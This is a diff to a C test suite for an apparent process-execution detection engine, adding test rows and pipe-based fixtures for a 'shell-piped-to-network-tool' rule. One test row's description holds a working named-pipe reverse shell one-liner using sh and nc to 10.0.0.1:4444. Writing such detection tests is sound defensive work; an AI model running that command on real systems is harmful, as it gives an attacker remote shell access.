@@ -36,6 +36,8 @@ enum special {
 	SP_HOSTPARENT, /* setns: ... in the host's */
 	SP_PIPE_SH,  /* the process's stdout is a pipe read by sh (no script: code from stdin) */
 	SP_PIPE_CAT, /* ... read by cat */
+	SP_FROM_SH,  /* the process's stdin is a pipe written by sh (an interactive shell) */
+	SP_FROM_CAT, /* ... written by cat */
 };
 
 struct row {
@@ -110,6 +112,15 @@ static const struct row rows[] = {
 	  { EXEC("/usr/bin/nc.openbsd", "nc\t-zv\t10.0.0.1\t22") }, .why = "port check" },
 	{ "netcat-exec", false,
 	  { EXEC("/usr/bin/busybox", "sed\t-e\ts/a/b/\tf") }, .why = "busybox sed -e" },
+
+	{ "shell-piped-to-network-tool", true,
+	  { EXEC("/usr/bin/nc.traditional", "nc\t10.0.0.1\t4444") }, SP_FROM_SH,
+	  "cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f" },
+	{ "shell-piped-to-network-tool", false,
+	  { EXEC("/usr/bin/nc.traditional", "nc\t10.0.0.1\t4444") }, SP_FROM_CAT, "cat file | nc" },
+	{ "shell-piped-to-network-tool", false,
+	  { EXEC("/usr/bin/nc.traditional", "nc\t10.0.0.1\t4444") }, SP_PIPE_SH,
+	  "nc whose stdout (not stdin) goes to a shell: a download run, other rules" },
 
 	{ "python-inline-shell", true,
 	  { EXEC("/usr/bin/python3.11",
@@ -729,6 +740,43 @@ static struct vg_rule_tables tables;
 static pid_t child, inet_child, unix_child, ns_child;
 static pid_t pipe_sh[2], pipe_cat[2]; /* [0] writer (pauses), [1] reader */
 static pid_t spawn(int fd);
+static pid_t from_sh[2], from_cat[2]; /* [0] writer (prog), [1] reader (pauses) */
+static int writer_stdin = -1;         /* the writers' stdin: never written, so they wait */
+
+/* A writer exec'ing prog with stdout on a pipe, and a reader with that pipe as stdin. */
+static void pipe_from_pair(pid_t out[2], const char *prog)
+{
+	int p[2], q[2];
+
+	if (pipe(p))
+		return;
+	if (writer_stdin < 0) {
+		if (pipe(q))
+			return;
+		writer_stdin = q[1];
+		dup2(q[0], 100);
+		close(q[0]);
+	}
+	out[0] = fork();
+	if (out[0] == 0) {
+		dup2(100, 0);
+		dup2(p[1], 1);
+		close(p[0]);
+		close(p[1]);
+		execl(prog, prog, (char *)NULL);
+		_exit(127);
+	}
+	out[1] = fork();
+	if (out[1] == 0) {
+		dup2(p[0], 0);
+		close(p[0]);
+		close(p[1]);
+		pause();
+		_exit(0);
+	}
+	close(p[0]);
+	close(p[1]);
+}
 
 /* A writer whose stdout is a pipe, and a reader exec'ing prog with that pipe as stdin. */
 static void pipe_pair(pid_t out[2], const char *prog)
@@ -787,6 +835,9 @@ static int setup(void **state)
 	child = spawn(-1);
 	pipe_pair(pipe_sh, "/bin/sh");
 	pipe_pair(pipe_cat, "/bin/cat");
+	pipe_from_pair(from_sh, "/bin/sh");
+	pipe_from_pair(from_cat, "/bin/cat");
+	close(100);
 	ns_child = fork();
 	if (ns_child == 0) {
 		if (unshare(CLONE_NEWUTS))
@@ -807,9 +858,9 @@ static int setup(void **state)
 static int teardown(void **state)
 {
 	pid_t p[] = { child, inet_child, unix_child, ns_child, pipe_sh[0], pipe_sh[1], pipe_cat[0],
-		      pipe_cat[1] };
+		      pipe_cat[1], from_sh[0], from_sh[1], from_cat[0], from_cat[1] };
 
-	for (int i = 0; i < 8; i++) {
+	for (int i = 0; i < 12; i++) {
 		kill(p[i], SIGKILL);
 		waitpid(p[i], NULL, 0);
 	}
@@ -836,6 +887,10 @@ static struct t_op row_op(const struct row *r, char *path, size_t len)
 		op.self_pid = pipe_sh[0];
 	if (r->sp == SP_PIPE_CAT)
 		op.self_pid = pipe_cat[0];
+	if (r->sp == SP_FROM_SH)
+		op.self_pid = from_sh[1];
+	if (r->sp == SP_FROM_CAT)
+		op.self_pid = from_cat[1];
 	if (pid) {
 		const char *at = op.path ? strstr(op.path, "%d") : NULL;
 
